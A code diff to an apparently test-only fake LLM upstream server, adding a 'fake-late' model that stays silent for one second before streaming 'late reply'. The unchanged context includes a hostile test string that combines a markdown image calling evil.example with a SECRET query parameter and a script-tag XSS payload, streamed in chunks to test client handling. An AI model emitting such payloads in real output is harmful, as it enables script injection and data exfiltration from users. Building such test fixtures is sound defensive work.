@@ -59,6 +59,7 @@ Models:
   without ``data: [DONE]``.
 * ``fake-xss``: a hostile string cut into 3-character chunks.
 * ``fake-slow``: like fake-echo with 200 ms between tokens.
+* ``fake-late``: silence for 1 s before its first token, then "late reply".
 """
 
 from __future__ import annotations
@@ -87,6 +88,7 @@ MODELS = (
     "fake-truncated",
     "fake-xss",
     "fake-slow",
+    "fake-late",
 )
 
 SECRET_DETAIL = "UPSTREAM-SECRET-DETAIL"
@@ -95,6 +97,8 @@ XSS_TEXT = (
     "![p](http://evil.example/p.png?q=SECRET) <script>alert(2)</script>"
 )
 SLOW_GAP_S = 0.2
+LATE_FIRST_TOKEN_S = 1.0
+_SILENCE = object()  # in a token list: LATE_FIRST_TOKEN_S without a byte
 MAX_HEADER_BYTES = 64 * 1024
 MAX_BODY_BYTES = 16 * 1024 * 1024
 
@@ -663,6 +667,8 @@ class _Script:
         elif model == "fake-truncated":
             tokens = [f"tok{i} " for i in range(3)]
             self.finish_reason = None
+        elif model == "fake-late":
+            tokens = [_SILENCE, "late ", "reply"]
         elif model == "fake-xss":
             tokens = [XSS_TEXT[i : i + 3] for i in range(0, len(XSS_TEXT), 3)]
         else:  # pragma: no cover - guarded by MODELS
@@ -672,6 +678,9 @@ class _Script:
         for tok in tokens:
             if tok is None:  # the stall
                 await conn.pause(self.up.stall_seconds)
+                continue
+            if tok is _SILENCE:
+                await conn.pause(LATE_FIRST_TOKEN_S)
                 continue
             if not first and gap > 0:
                 await conn.pause(gap)
